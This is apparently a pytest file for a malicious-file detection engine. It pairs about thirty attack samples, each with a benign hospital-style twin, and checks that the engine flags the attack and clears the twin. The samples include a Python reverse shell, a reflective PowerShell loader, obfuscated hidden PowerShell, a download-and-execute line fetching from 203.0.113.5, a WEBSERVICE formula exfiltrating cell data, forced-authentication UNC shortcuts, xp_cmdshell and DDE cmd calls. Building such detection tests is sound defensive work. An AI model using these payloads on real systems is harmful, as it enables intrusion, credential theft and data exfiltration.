"""Files that lead, load or start, and honest twins that hospitals use: the same kind, to their own servers.

Sources of the attacks: MITRE ATT&CK T1187 (forced authentication), T1218, T1127.001 (MSBuild), T1620 (reflective
loading), T1559.002 (DDE); CVE-2025-24071; what is honest stands beside each.
"""

from __future__ import annotations

import binascii
import io
import struct
import zipfile

import pytest

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.testing.bombs.make import ooxml

ENGINE = Engine()
ABROAD = b"203.0.113.5"
SETTINGS = b"<PCSettings><SearchableContent><DeepLink>%s</DeepLink></SearchableContent></PCSettings>"
SEARCH = b'<?xml version="1.0"?><persistedQuery><query><scope><include path="%s"/></scope></query></persistedQuery>'
PLIST = b'<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>%s</string></dict></plist>'
APP = b'<?xml version="1.0"?><AppInstaller Uri="%s"><MainPackage Name="A" Uri="%s"/></AppInstaller>'
START = b'<?xml version="1.0"?><jnlp codebase="%s"><security><all-permissions/></security></jnlp>'
TASK = (
    b'<Project><UsingTask TaskName="C" TaskFactory="%s"><Task><Code><![CDATA[%s]]></Code></Task></UsingTask></Project>'
)
SHEET = (
    b'<?xml version="1.0"?>\n<!-- shows a record -->\n<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    b'xmlns:n1="urn:hl7-org:v3"><xsl:template match="/n1:ClinicalDocument"><html><script>%s</script></html>'
    b"</xsl:template></xsl:stylesheet>"
)
SHOWS = b"function toggle(e){document.getElementById(e).style.display='none';}"
SHELL = b"new ActiveXObject('WScript.Shell').Run('cmd /c calc');"
LOADS = b"$a=[Convert]::FromBase64String($b);[Reflection.Assembly]::Load($a).EntryPoint.Invoke($null,$null)"
PARTS = b'[Reflection.Assembly]::LoadWithPartialName("System.Windows.Forms")\n$f=New-Object Windows.Forms.Form'
SPELLED = b"set a=pow&&set b=ershell\r\n%%a%%%%b%% -nop -w hidden -enc %s\r\n" % (b"SQBFAFgA" * 8)
BATCH = b"set a=fs01&&set b=commun\r\nnet use S: \\\\%a%\\%b%\r\n"
BACK = (
    b"import socket,os,subprocess\ns=socket.socket()\ns.connect(a)\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh'])"
)
ASKS = b"import socket\ns=socket.socket()\ns.connect(('pacs01', 104))\ns.send(b'echo')"


STYLED = (
    b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt" '
    b'xmlns:u="u"><m:script language="C#" implements-prefix="u"><![CDATA[string x(string a){%s}]]></m:script>'
    b"</xsl:stylesheet>"
)
SETUP = b"[version]\r\nSignature=$chicago$\r\n[DefaultInstall]\r\nUnRegisterOCXs=A\r\n[A]\r\n%s\r\n"


def task(starts: str, words: str) -> bytes:
    """Return a task of Windows' scheduler ([MS-TSCH] 2.4)."""
    texts = (struct.pack("<H", len(one) + 1) + f"{one}\0".encode("utf-16-le") for one in (starts, words, "C:\\", "a"))
    fixed = struct.pack(
        "<HH16sHHHHHHIIIII16s", 0x601, 1, bytes(16), 70, 0, 0, 60, 3, 10, 32, 0x41302, 0, 0, 0, bytes(16)
    )
    return fixed + bytes(2) + b"".join(texts)


def program(*, signed: bool = False) -> bytes:
    directory = bytearray(128)
    struct.pack_into("<II", directory, 32, *((1024, 600) if signed else (0, 0)))
    head = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 224, 0x102) + b"\x0b\1" + bytes(94) + directory
    return (b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + head).ljust(1024, b"\0") + (bytes(600) if signed else b"")


def relation(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def template(target: str) -> bytes:
    return ooxml(**{"word___rels__settings.xml.rels": relation("attachedTemplate", target)})


def connected(words: str) -> bytes:
    return ooxml(
        **{"xl__connections.xml": f"<connections><connection><dbPr {words}/></connection></connections>".encode()}
    )


def linked(service: str, topic: str) -> bytes:
    link = f'<externalLink><ddeLink ddeService="{service}" ddeTopic="{topic}"/></externalLink>'.encode()
    return ooxml(**{"xl__externalLinks__externalLink1.xml": link})


def formula(text: str) -> bytes:
    return ooxml(**{"xl__worksheets__sheet1.xml": f"<worksheet><c><f>{text}</f></c></worksheet>".encode()})


def packed(name: str, raw: bytes) -> bytes:
    label = name.encode() + b"\0"
    source = b"C:\\x\\" + label
    body = b"\x02\0" + label + source + b"\0\0\x03\0" + struct.pack("<I", len(source)) + source
    body += struct.pack("<I", len(raw)) + raw
    whole = struct.pack("<III", 0x501, 2, 8) + b"Package\0" + struct.pack("<III", 0, 0, len(body)) + body
    return rb"{\rtf1\ansi{\object\objemb{\*\objclass Package}{\*\objdata " + binascii.hexlify(whole) + b"}}}"


def shortcut(target: str) -> bytes:
    head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), 0x88).ljust(76, b"\0")
    return head + struct.pack("<H", len(target)) + target.encode("utf-16-le") + bytes(4)


def compiled(command: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: M\n")
        strings = b"".join(b"\x01" + struct.pack(">H", len(one)) + one for one in (b"java/lang/Runtime", command))
        archive.writestr("M.class", b"\xca\xfe\xba\xbe\0\0\0\x3d\0\x20" + strings)
    return out.getvalue()


CASES = {
    "settings": (
        "a.settingcontent-ms",
        SETTINGS % b"cmd.exe /c calc",
        SETTINGS % b"control.exe /name Microsoft.Display",
    ),
    "a script in a style sheet": (
        "a.xsl",
        STYLED % b'System.Diagnostics.Process.Start("calc.exe");',
        STYLED % b"return a.ToUpper();",
    ),
    "a planned task": ("a.job", task("powershell.exe", "-nop -w hidden -enc SQBFAFgA"), task("backup.exe", "/daily")),
    "a setup script": ("a.inf", SETUP % rb"%11%\scrobj.dll,NI,http://e.invalid/a.sct", SETUP % b"printer.dll"),
    "a desktop of a foreign machine": (
        "a.rdp",
        "full address:s:203.0.113.5\r\ndrivestoredirect:s:*\r\n".encode("utf-16"),
        "full address:s:10.1.2.3\r\ndrivestoredirect:s:\r\n".encode("utf-16"),
    ),
    "an add-in of Excel": ("a.xll", program(), program(signed=True)),
    "a screen saver": ("a.scr", program(), program(signed=True)),
    "search": ("a.search-ms", SEARCH % (rb"\\203.0.113.5@80\dav"), SEARCH % b"knownfolder:{FDD39AD0}"),
    "link of a Mac": ("a.webloc", PLIST % b"smb://203.0.113.5/x.app", PLIST % b"https://www.hospital.example/"),
    "link to a share": (
        "a.url",
        b"[InternetShortcut]\nURL=file://%s/a.exe" % ABROAD,
        b"[InternetShortcut]\nURL=file://fs01/a.pdf",
    ),
    "link to a page in a file": (
        "a.url",
        b"[InternetShortcut]\nURL=mhtml:http://a.example/b!x-usc:http://a.example/b",
        b"[InternetShortcut]\nURL=file:///C:/plan.pdf",
    ),
    "installer": (
        "a.appinstaller",
        APP % ((b"https://203.0.113.5/a",) * 2),
        APP % ((b"https://apps.maker.example/a",) * 2),
    ),
    "started by Java": ("a.jnlp", START % b"http://203.0.113.5/", START % b"https://pacs.hospital.example/viewer"),
    "desk": (
        "a.rdp",
        b"full address:s:203.0.113.5:443\ndrivestoredirect:s:*\n",
        b"full address:s:10.2.0.9\ndrivestoredirect:s:*\n",
    ),
    "build": (
        "a.csproj",
        TASK % (b"CodeTaskFactory", b"Process.Start(1)"),
        TASK % (b"CodeTaskFactory", b"Log.LogMessage(1)"),
    ),
    "card": (
        "a.vcf",
        b"BEGIN:VCARD\nURL:file://203.0.113.5/s/a.exe\nEND:VCARD\n",
        b"BEGIN:VCARD\nURL:https://hospital.example/\nEND:VCARD\n",
    ),
    "style sheet": ("cda.xsl", SHEET % SHELL, SHEET % SHOWS),
    "loaded program": ("a.ps1", LOADS, PARTS),
    "spelled command": ("a.bat", SPELLED, BATCH),
    "way in": ("a.py", BACK, ASKS),
    "template": (
        "a.docx",
        template("file:///\\\\203.0.113.5\\a\\b.dotx"),
        template("file:///\\\\fs01\\modeles\\b.dotx"),
    ),
    "connection": (
        "a.xlsx",
        connected('connection="SERVER=203.0.113.5;UID=a"'),
        connected('connection="SERVER=10.0.0.7;UID=a" command="SELECT 1"'),
    ),
    "command of a data base": (
        "a.xlsx",
        connected('command="exec xp_cmdshell 1"'),
        connected('command="exec activity_of_ward 1"'),
    ),
    "data of a program": ("a.xlsx", linked("cmd", " /c calc"), linked("RSLINX", "AUTOMATE")),
    "cells sent": (
        "a.xlsx",
        formula('WEBSERVICE("http://203.0.113.5/?a="&amp;B1)'),
        formula('WEBSERVICE("https://api.hospital.example/?a="&amp;B1)'),
    ),
    "web query": (
        "a.iqy",
        b"WEB\r\n1\r\nhttp://203.0.113.5/a\r\n",
        b"WEB\r\n1\r\nhttps://intranet/_vti_bin/owssvc.dll\r\n",
    ),
    "package": ("a.rtf", packed("a.js", SHELL), packed("notes.txt", b"What was said on the 2nd of March.\r\n" * 9)),
    "package with a false name": (
        "a.rtf",
        packed("notes.txt", b"MZ" + bytes(200)),
        packed("plan.csv", b"a;b\r\n1;2\r\n" * 9),
    ),
    "shortcut to the web": (
        "a.lnk",
        shortcut(r"\\203.0.113.5@SSL@443\DavWWWRoot\setup.exe"),
        shortcut(r"\\fs01\commun\planning.xlsx"),
    ),
    "archive of Java": (
        "a.jar",
        compiled(b"powershell -nop -w hidden IEX (irm http://203.0.113.5/a)"),
        compiled(b"lp -d printer3"),
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_the_attack_is_found_and_its_twin_passes(name: str) -> None:
    file, attack, twin = CASES[name]
    found = ENGINE.judge(attack, file)
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found
    honest = ENGINE.judge(twin, file)
    assert honest.verdict is Verdicts.CLEAN, honest
